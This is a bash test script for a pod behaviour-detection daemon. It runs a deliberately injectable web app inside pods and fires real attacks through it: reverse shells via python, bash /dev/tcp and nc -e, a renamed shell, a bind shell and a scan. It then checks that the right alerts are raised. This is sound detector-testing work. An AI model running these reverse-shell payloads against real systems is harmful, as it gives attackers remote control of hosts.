#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Detection by behaviour: a battery of attacks and of ordinary
# applications, each in fresh pods made by the [bridge, podsentry-cni]
# chain, watched by one daemon with a short learning window.
#
# Every pod runs like a container: one long-lived first process (a web
# app with a command injection for the attacked ones). The attacks come
# in through that bug, from the attacker's pod: reverse shells in four
# forms (python dup2+execv, python pty.spawn, bash /dev/tcp, busybox nc
# -e), a renamed shell, a dropped script, a bind shell, a scan through a
# shell, and one exec into the pod from the node. Each must give exactly
# one critical lateral-movement alert that names the source pod, the
# hop's pod and port, and the channel's peer. The ordinary applications
# (a python client of its database, a python server with many clients, a
# web app that runs sh -c per request, health-check loops, a learned
# client of a sensitive port, cron-like jobs, a server started from a
# shell script) must give no alert of severity medium or more, and their
# traffic must be seen both during and after the learning window.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../cni/lib-cni.sh"
. "$(dirname "$0")/lib-detect.sh"
AL=$T/alerts.json
LEARN=6
PY=/usr/bin/python3
BB=/usr/bin/busybox
[ -x $PY ] && [ -x /bin/bash ] && [ -x /bin/dash ] || { fail setup "needs $PY, bash, dash"; exit 1; }

echo "{\"rules\": {\"new-east-west-peer\": {\"learning_window\": $LEARN}}}" >"$T/config.json"
daemon_start --state-dir "$STATE" --log-dir "$T/logs" --config "$T/config.json" \
	--alerts "$AL" --flow-idle 1 --flow-update 1 || { fail setup "daemon"; exit 1; }
cni_conflist

declare -A IP START
ATTACKS="py pty bash nc renamed dropped bind exec scan"
BENIGN="api pyserv cl1 cl2 cl3 cgi shopper health sens cron script"
for n in ledger inventory attacker; do
	IP[$n]=$(pod_add "$n" data "$n") || { fail setup "cni add $n: $(cat "$T/$n.cni")"; exit 1; }
done
for n in $ATTACKS; do
	IP[$n]=$(pod_add "$n" shop "web-$n") || { fail setup "cni add $n: $(cat "$T/$n.cni")"; exit 1; }
done
for n in $BENIGN; do
	IP[$n]=$(pod_add "$n" apps "$n") || { fail setup "cni add $n: $(cat "$T/$n.cni")"; exit 1; }
done
LEDGER=${IP[ledger]} INV=${IP[inventory]} ATT=${IP[attacker]}

# run NAME CMD: NAME's first process (kept for the whole test)
run() {
	START[$1]=$(date +%s)
	ip netns exec "$P$1" sh -c "$2" </dev/null >>"$T/$1.out" 2>&1 &
}
listening() { ip netns exec "$P$1" $BB netstat -ltn | grep -q ":$2 "; }

# --- the targets: a database on 5432 (sensitive), a service on 8080/8081
mkdir -p "$T/www/plain" "$T/drop"
echo ok >"$T/www/plain/index.html"
run ledger "$BB httpd -f -p 5432 -h $T/www/plain"
run inventory "$BB httpd -p 8080 -h $T/www/plain; exec $BB httpd -f -p 8081 -h $T/www/plain"
# the attacker's pod runs what is left in $T/att, each file as a child
# of its first process (att), like the targets it is not entered from the node
mkdir -p "$T/att"
run attacker "cd $T/att; while :; do for f in *.sh; do [ -e \"\$f\" ] &&
	{ mv \"\$f\" \"\$f.run\"; (sh \"\$f.run\" >\"\$f.out\" 2>&1; touch \"\$f.done\") & }; done; sleep 0.05; done"
n_att=0
att() { # CMD [wait]
	n_att=$((n_att + 1))
	printf '%s\n' "$1" >"$T/att/a$n_att.tmp" && mv "$T/att/a$n_att.tmp" "$T/att/a$n_att.sh"
	[ "${2:-}" != wait ] || wait_for 20 test -e "$T/att/a$n_att.sh.done"
}

# --- the attacked pods: a web app with a command injection
vuln_www "$T/www/vuln"
for n in $ATTACKS; do
	run "$n" "exec $BB httpd -f -p 80 -h $T/www/vuln"
done

# --- the ordinary applications, busy from their start
cat >"$T/api.py" <<EOF
import socket, subprocess, time
while True:
    s = socket.create_connection(("$LEDGER", 5432), timeout=2)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    s.recv(4096)
    s.close()
    # a one-shot client of the same database, as python3 -c
    subprocess.run(["$PY", "-c", "import socket; s = socket.create_connection(('$LEDGER', 5432)); s.close()"])
    time.sleep(0.4)
EOF
run api "exec $PY $T/api.py"
cat >"$T/pyserv.py" <<'EOF'
import socketserver
class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(self.rfile.readline())
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("0.0.0.0", 8000), Echo).serve_forever()
EOF
run pyserv "exec $PY $T/pyserv.py"
# clients that retry, as real ones do: the server may not listen yet
client_py="import socket, time
while True:
    try:
        for i in range(5):
            s = socket.create_connection(('${IP[pyserv]}', 8000), timeout=2)
            s.sendall(b'ping\n'); s.recv(16); s.close()
    except OSError:
        pass
    time.sleep(0.3)"
run cl1 "exec $PY -c \"$client_py\""
run cl2 "exec $PY -c \"$client_py\""
mkdir -p "$T/www/cgi/cgi-bin"
cat >"$T/www/cgi/cgi-bin/status" <<'CGI'
#!/bin/sh
echo "Content-Type: text/plain"
echo
sh -c "date; uname -r"
CGI
chmod +x "$T/www/cgi/cgi-bin/status"
run cgi "exec $BB httpd -f -p 80 -h $T/www/cgi"
echo ok >"$T/www/cgi/index.html"
mkdir -p "$T/www/script"
echo ok >"$T/www/script/index.html"
cat >"$T/start.sh" <<EOF
#!/bin/sh
cd $T/www/script
echo starting
$PY -m http.server 8090 --bind 0.0.0.0 &
wait
EOF
run script "exec sh $T/start.sh"
run shopper "while :; do $BB wget -q -O /dev/null http://${IP[cgi]}/cgi-bin/status
	$BB wget -q -O /dev/null http://${IP[script]}:8090/; sleep 0.3; done"
run health "$BB httpd -p 80 -h $T/www/plain; while :; do
	$BB wget -q -O /dev/null http://127.0.0.1/
	$BB nc -w 1 $INV 8080 </dev/null
	sleep 0.5; done"
run sens "while :; do $BB wget -q -O /dev/null http://$LEDGER:5432/; sleep 0.4; done"
cat >"$T/job.sh" <<EOF
#!/bin/sh
$BB wget -q -O - http://$INV:8080/ >/dev/null && date >>$T/cron.log
EOF
run cron "while :; do sh -c '$BB wget -q -O /dev/null http://$INV:8081/'; sh $T/job.sh; sleep 1; done"
# a kubelet-like probe from the node
( while :; do $BB wget -q -O /dev/null "http://${IP[health]}/"; sleep 0.5; done ) &
PROBE=$!

for pe in "ledger 5432" "inventory 8081" "pyserv 8000" "script 8090" "cgi 80" "py 80"; do
	set -- $pe
	wait_for 10 listening "$1" "$2" || fail setup "$1 does not listen on $2"
done
sleep $((LEARN + 1)) # every pod's learning window ends
# a client the server never saw: after the window
run cl3 "exec $PY -c \"$client_py\""

# --- the attacks
# exploit NAME PAYLOAD: the attacker's request runs PAYLOAD in NAME's web
# app through its command injection, detached
exploit() {
	local q
	q=$(printf '%s' "x; $2 >/dev/null 2>&1 </dev/null &" | jq -sRr @uri)
	echo "http://${IP[$1]}/cgi-bin/hello?name=$q" >"$T/att/url.$1"
	att "timeout 5 $BB wget -q -O /dev/null \"\$(cat $T/att/url.$1)\"" wait
}
# listen PORT CMD...: the attacker's listener; a shell that connects gets
# the commands, one per line, and the connection stays up for a while
listen() {
	local port=$1; shift
	printf '%s\n' "$@" >"$T/att/cmds.$port"
	att "(sleep 2; cat $T/att/cmds.$port; sleep 7) | $BB nc -l -p $port"
	wait_for 5 listening attacker "$port"
}
HOP="$BB nc -w 2 $LEDGER 5432 </dev/null"

listen 4441 "$HOP"
exploit py "$PY -c 'import socket,os;s=socket.create_connection((\"$ATT\",4441));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\"])'"
listen 4442 "$HOP"
exploit pty "$PY -c 'import socket,os,pty;s=socket.create_connection((\"$ATT\",4442));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
listen 4443 "$HOP"
exploit bash "/bin/bash -c '/bin/bash -i >& /dev/tcp/$ATT/4443 0>&1'"
listen 4444 "$HOP"
exploit nc "$BB nc $ATT 4444 -e /bin/sh"
# a shell under another name: its commands run on the socket it reads
listen 4445 "$BB nc -w 2 $INV 8080 </dev/null"
exploit renamed "cp /bin/dash $T/drop/kworker; $BB nc $ATT 4445 -e $T/drop/kworker"
# a script written through the shell connects to a plain port
listen 4446 "printf 'import socket\\nsocket.create_connection((\"$INV\", 8081)).close()\\n' >$T/drop/sync.py" \
	"$PY $T/drop/sync.py"
exploit dropped "$BB nc $ATT 4446 -e /bin/sh"
listen 4449 "for p in \$(seq 7001 7025); do $BB nc -w 1 $LEDGER \$p </dev/null; done"
exploit scan "$BB nc $ATT 4449 -e /bin/sh"
# a bind shell: the attacker connects to it
exploit bind "$BB nc -l -p 5555 -e /bin/sh"
if wait_for 5 listening bind 5555; then
	printf '%s\n' "$HOP" >"$T/att/cmds.bind"
	att "(sleep 1; cat $T/att/cmds.bind; sleep 6) | $BB nc ${IP[bind]} 5555"
else
	fail setup "the bind shell does not listen"
fi
# from the node into the pod, then a hop
ip netns exec "${P}exec" sh -c "$HOP"

# the shells end when their listeners hang up; flows end (idle 1 s)
sleep 10
wait_for 10 sh -c "[ \$(jq -c 'select(.alert.rule==\"lateral-movement\")' $AL 2>/dev/null | grep -c .) -ge 9 ]"
sleep 2

# --- the attacks: one critical lateral-movement each
declare -A HOP_POD=([py]=ledger [pty]=ledger [bash]=ledger [nc]=ledger [renamed]=inventory
	[dropped]=inventory [bind]=ledger [exec]=ledger [scan]=ledger)
declare -A HOP_PORT=([py]=5432 [pty]=5432 [bash]=5432 [nc]=5432 [renamed]=8080
	[dropped]=8081 [bind]=5432 [exec]=5432 [scan]=7001)
for n in $ATTACKS; do
	pod=web-$n
	got=$(n_alerts "$pod" lateral-movement)
	[ "$got" = 1 ] && ok "attack/$n/one-lateral-movement" ||
		fail "attack/$n/one-lateral-movement" "$got alerts; the pod's: $(alerts_of "$pod" | jq -c '[.alert.rule, .alert.summary]')"
	a=$(alerts_of "$pod" lateral-movement | head -n 1)
	[ -n "$a" ] || continue
	jqe --arg pod "${HOP_POD[$n]}" --argjson port "${HOP_PORT[$n]}" \
		'.alert.severity=="critical" and .pod.name==$in_pod and
		 (.evidence.hops[0].dst.pod.name==$pod) and
		 (.evidence.hops[0].dst.port==$port or ($port==7001 and
		  .evidence.hops[0].dst.port>=7001 and .evidence.hops[0].dst.port<=7025)) and
		 .evidence.hops[0].src.pod.name==$in_pod' --arg in_pod "$pod" <<<"$a" &&
		ok "attack/$n/names-pod-and-hop" || fail "attack/$n/names-pod-and-hop" "$a"
	if [ "$n" = exec ]; then
		# no channel: it came from the node
		jqe '.evidence.foothold.rule=="exec-into-pod" and .ancestry[-1].exec_into_pod' <<<"$a" &&
			ok "attack/$n/foothold-is-the-entry" || fail "attack/$n/foothold-is-the-entry" "$a"
	else
		jqe --arg att "$ATT" '.evidence.foothold.channel.remote.ip==$att and
			.evidence.foothold.rule=="reverse-shell" and
			.evidence.foothold.channel.remote.pod.name=="attacker" and
			.ancestry[-1].container_first and
			(.ancestry[-1].args | index("httpd") != null)' <<<"$a" &&
			ok "attack/$n/channel-and-ancestry" || fail "attack/$n/channel-and-ancestry" "$a"
	fi
done
# the channel is never the hop
for n in $ATTACKS; do
	alerts_of "web-$n" lateral-movement | jqe --arg att "$ATT" \
		'[.evidence.hops[].dst.ip] | index($att) == null' ||
		fail "attack/$n/channel-is-not-a-hop" "$(alerts_of "web-$n" lateral-movement | jq -c .evidence.hops)"
done
ok attack/channels-are-not-hops
n_alerts web-scan internal-scan | grep -qx '[1-9]' && ok attack/scan/internal-scan ||
	fail attack/scan/internal-scan "$(alerts_of web-scan | jq -c '[.alert.rule]')"
alerts_of web-pty reverse-shell | jqe '.evidence.stdio.stdin.type=="pty" and .evidence.stdio.parent_socket.remote.port==4442' &&
	ok attack/pty/shell-on-a-pty-its-parent-relays || fail attack/pty/shell-on-a-pty-its-parent-relays "$(alerts_of web-pty reverse-shell)"
alerts_of web-renamed reverse-shell | jqe '.process.binary | endswith("/kworker")' &&
	ok attack/renamed/the-copy-is-the-shell || fail attack/renamed/the-copy-is-the-shell "$(alerts_of web-renamed reverse-shell | jq -c .process)"

# --- the kernel's facts at exec: a shell on a TCP socket, a shell on pipes
has_record ".type==\"process_exec\" and .pod.name==\"web-nc\" and .process.binary==\"/bin/sh\" and
	.process.stdio.stdin.type==\"socket\" and .process.stdio.stdin.protocol==\"tcp\" and
	.process.stdio.stdin.remote.ip==\"$ATT\" and .process.stdio.stdin.remote.port==4444 and
	.process.stdio.stdout.type==\"socket\"" &&
	ok kernel-facts/shell-on-a-tcp-socket ||
	fail kernel-facts/shell-on-a-tcp-socket "$(jq -c 'select(.type=="process_exec" and .pod.name=="web-nc") | [.process.binary, .process.stdio]' "$T/export.json")"
has_record '.type=="process_exec" and .pod.name=="cgi" and (.process.args|join(" ")|contains("uname -r")) and
	.process.stdio.stdout.type=="pipe" and .process.stdio.stdin.type=="pipe"' &&
	ok kernel-facts/shell-on-pipes ||
	fail kernel-facts/shell-on-pipes "$(jq -c 'select(.type=="process_exec" and .pod.name=="cgi") | [.process.args, .process.stdio]' "$T/export.json" | head -n 3)"

# --- the ordinary applications: nothing of medium or more, traffic seen
# during and after learning
kill "$PROBE" 2>/dev/null
for n in $BENIGN ledger inventory attacker; do
	bad=$(alerts_of "$n" | jq -c 'select(.alert.severity=="medium" or .alert.severity=="high" or
		.alert.severity=="critical") | [.alert.rule, .alert.severity, .alert.summary]')
	[ -z "$bad" ] && ok "benign/$n/no-alert-of-medium-or-more" || fail "benign/$n/no-alert-of-medium-or-more" "$bad"
done
for n in api pyserv cl1 cl2 cgi shopper health sens cron script; do
	s=${START[$n]}
	counts=$(jq -r --arg p "$n" --argjson s "$s" --argjson l $LEARN '
		select(.type=="flow" and (.flow.src.pod.name==$p or .flow.dst.pod.name==$p))
		| (.time | sub("\\.[0-9]+Z$"; "Z") | fromdate) as $t
		| if $t < $s + $l then "during" elif $t > $s + $l + 1 then "after" else "edge" end' \
		"$T/export.json" | sort | uniq -c | tr '\n' ' ')
	[[ "$counts" == *during* && "$counts" == *after* ]] && ok "benign/$n/traffic-during-and-after-learning" ||
		fail "benign/$n/traffic-during-and-after-learning" "flows: $counts"
done
# cl3 came after the window: it is new, but ordinary
[ "$(jq -c 'select(.type=="flow" and .flow.src.pod.name=="cl3")' "$T/export.json" | grep -c .)" -ge 5 ] &&
	ok benign/cl3/late-client-seen || fail benign/cl3/late-client-seen "no flows"
